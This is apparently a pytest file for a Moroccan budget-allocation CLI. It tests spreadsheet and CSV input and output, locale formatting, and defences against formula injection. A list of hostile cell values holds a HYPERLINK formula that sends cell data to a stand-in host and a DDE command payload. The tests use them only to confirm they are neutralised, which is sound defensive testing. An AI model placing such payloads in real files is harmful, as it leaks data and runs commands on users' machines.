"""Files a programme manager opens in a spreadsheet: xlsx, separators, French locale, safety.

Real files through the real commands; XLSX outputs are read back with openpyxl as a
spreadsheet would open them (cell types, not only values).
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from cli import app
from matcher.contract.sheets import neutralise
from matcher.contract.tables import read_table, write_table

ROOT = Path(__file__).resolve().parents[2]
DATA = ROOT / "data_samples"
REFERENCE_DIR = DATA / "reference"
runner = CliRunner()
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
ODD_IDS = ["00123", "-1-1", "1E5"]


def cohort(n: int = 12) -> pd.DataFrame:
    return pd.read_csv(DATA / "cohort.csv", dtype="str", keep_default_na=False).head(n)


def with_odd_rows(frame: pd.DataFrame) -> pd.DataFrame:
    """Valid people with ids a spreadsheet mangles, and rows whose id is a formula."""
    base = frame.iloc[0]
    odd = [base.to_dict() | {"beneficiary_id": i} for i in ODD_IDS]
    hostile = [base.to_dict() | {"beneficiary_id": h} for h in HOSTILE]
    return pd.concat([frame, pd.DataFrame(odd + hostile)], ignore_index=True)


def run(registry: Path, *args: str):
    result = runner.invoke(
        app, [*args, "--registry", str(registry), "--reference", str(REFERENCE_DIR)]
    )
    assert result.exit_code == 0, result.output
    return result


def xlsx_cells(path: Path) -> list[list[object]]:
    sheet = load_workbook(path).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def test_an_xlsx_cohort_is_read_and_an_xlsx_allocation_written_with_names_and_percents(
    trained_registry_path, tmp_path
):
    source = tmp_path / "cohort.xlsx"
    frame = with_odd_rows(cohort())
    book = Workbook()
    sheet = book.active
    sheet.append(list(frame.columns))
    for row in frame.itertuples(index=False):
        # numbers typed as numbers, as a spreadsheet stores them; text typed as text
        sheet.append([float(v) if k in (2, 8) else v for k, v in enumerate(row)])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    book.save(source)
    output = tmp_path / "allocation.xlsx"
    run(
        trained_registry_path,
        "allocate",
        "--input",
        str(source),
        "--envelope",
        "300000",
        "--output",
        str(output),
        "--labels",
        "fr",
    )
    rows = xlsx_cells(output)
    header = [c.value for c in rows[0]]
    assert header[:4] == ["beneficiary_id", "project_type_id", "project_type_name", "cost_mad"]
    assert "score_pct" in header
    assert "sector_name" in header
    body = rows[1:]
    ids = [r[0] for r in body]
    assert [c.value for c in ids][-3:] == ODD_IDS  # 00123, -1-1 and 1E5 kept as text
    assert all(c.data_type == "s" for c in ids)
    score = body[0][header.index("score")]
    assert score.number_format == "0.0%"
    assert 0 <= score.value <= 1
    funded = [r for r in body if r[header.index("project_type_id")].value]
    names = {r[header.index("project_type_name")].value for r in funded}
    assert "Cordonnerie" in names or len(names) > 1
    assert all(r[header.index("project_type_name")].value for r in funded)
    # the hostile ids are rejected and written inert in the rejects
    rejects = pd.read_csv(f"{output}.rejects.csv", dtype=str)
    assert rejects["beneficiary_id"].tolist() == [neutralise(h) for h in HOSTILE]
    assert all(v.startswith("'") for v in rejects["beneficiary_id"])
    report = Path(f"{output}.report.md").read_text(encoding="utf-8")
    assert report.startswith("# Répartition du budget")
    assert "MAD sur une enveloppe de 300 000,00 MAD" in report.replace("\u202f", " ")
    assert "## Par région" in report


def test_a_french_semicolon_csv_is_read_and_a_french_csv_written(trained_registry_path, tmp_path):
    frame = with_odd_rows(cohort())
    frame.loc[0, "budget_mad"] = "45 000,50"
    frame.loc[1, "experience"] = "livestock:3,5"
    frame.loc[1, "age"] = "40"
    source = tmp_path / "cohort_fr.csv"
    source.write_bytes(b"\xef\xbb\xbf" + frame.to_csv(index=False, sep=";").encode())
    read = read_table(source)
    assert read.loc[0, "budget_mad"] == "45000.50"
    assert read.loc[1, "experience"] == "livestock:3.5"
    output = tmp_path / "scores.csv"
    run(
        trained_registry_path,
        "score",
        "--input",
        str(source),
        "--output",
        str(output),
        "--csv-locale",
        "fr",
        "--labels",
        "ar",
    )
    raw = output.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    header, first = text.splitlines()[:2]
    assert header.split(";")[:4] == [
        '"beneficiary_id"',
        '"rank"',
        '"project_type_id"',
        '"project_type_name"',
    ]
    cells = first.split(";")
    assert cells[0] == f'"=""{frame.loc[0, "beneficiary_id"]}"""'  # kept as text
    assert "," in cells[4].strip('"')
    assert "." not in cells[4]
    assert '"=""00123"""' in text
    assert '"=""1E5"""' in text
    rejects = output.with_name(output.name + ".rejects.csv").read_bytes().decode("utf-8-sig")
    for hostile in HOSTILE:
        assert f"\n{hostile}" not in rejects
        assert f";{hostile}" not in rejects
    # our own reader takes the guards off again: the round trip keeps every value
    back = read_table(output)
    assert back["beneficiary_id"].iloc[0] == frame.loc[0, "beneficiary_id"]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_the_separator_is_detected(tmp_path, separator):
    source = tmp_path / "c.csv"
    source.write_text(cohort(3).to_csv(index=False, sep=separator), encoding="utf-8")
    frame = read_table(source)
    assert list(frame.columns) == list(cohort(3).columns)
    assert len(frame) == 3


def test_an_unknown_separator_is_named_in_the_error(trained_registry_path, tmp_path):
    source = tmp_path / "c.csv"
    source.write_text(cohort(3).to_csv(index=False, sep="|"), encoding="utf-8")
    result = runner.invoke(
        app,
        [
            "score",
            "--input",
            str(source),
            "--output",
            str(tmp_path / "o.csv"),
            "--registry",
            str(trained_registry_path),
            "--reference",
            str(REFERENCE_DIR),
        ],
    )
    assert result.exit_code != 0
    assert "separated by ',', ';' or a tab" in result.output


def test_every_text_cell_written_is_inert(tmp_path):
    frame = pd.DataFrame({"beneficiary_id": [*HOSTILE, *ODD_IDS], "n": range(6)})
    write_table(frame, tmp_path / "x.csv")
    written = pd.read_csv(tmp_path / "x.csv", dtype=str)
    assert not written["beneficiary_id"].str.match(r"^[=+@]").any()
    write_table(frame, tmp_path / "x.xlsx")
    cells = [r[0] for r in xlsx_cells(tmp_path / "x.xlsx")[1:]]
    assert [c.value for c in cells] == [*HOSTILE, *ODD_IDS]
    assert {c.data_type for c in cells} == {"s"}  # none is a formula
    assert read_table(tmp_path / "x.xlsx")["beneficiary_id"].tolist() == [*HOSTILE, *ODD_IDS]


def test_output_equal_to_input_is_refused(trained_registry_path, tmp_path):
    source = tmp_path / "cohort.csv"
    cohort(3).to_csv(source, index=False)
    before = source.read_bytes()
    for command in (["score"], ["allocate", "--envelope", "100000"]):
        result = runner.invoke(
            app,
            [
                *command,
                "--input",
                str(source),
                "--output",
                str(source),
                "--registry",
                str(trained_registry_path),
            ],
        )
        assert result.exit_code == 2
        assert "would overwrite the input file" in result.output
    assert source.read_bytes() == before


def test_the_reference_operation_opens_in_arabic_with_names_and_percents(
    trained_registry_path, tmp_path
):
    """27 people and 1,233,737.62 MAD, as the reference operation (MOROCCO.md)."""
    source = tmp_path / "operation.csv"
    cohort(27).to_csv(source, index=False)
    output = tmp_path / "operation.xlsx"
    run(
        trained_registry_path,
        "allocate",
        "--input",
        str(source),
        "--envelope",
        "1233737.62",
        "--output",
        str(output),
        "--labels",
        "ar",
    )
    rows = xlsx_cells(output)
    header = [c.value for c in rows[0]]
    body = rows[1:]
    assert len(body) == 27
    name = header.index("project_type_name")
    funded = [r for r in body if r[header.index("project_type_id")].value]
    assert funded
    for row in funded:
        assert re.search(r"[\u0600-\u06ff]", row[name].value), row[name].value  # Arabic
        score = row[header.index("score")]
        assert score.number_format == "0.0%"
        assert row[header.index("score_pct")].value == round(score.value * 100, 1)
    report = Path(f"{output}.report.md").read_text(encoding="utf-8")
    assert report.startswith("# توزيع الميزانية")
    assert "1,233,737.62" in report
    assert "## حسب الجهة" in report
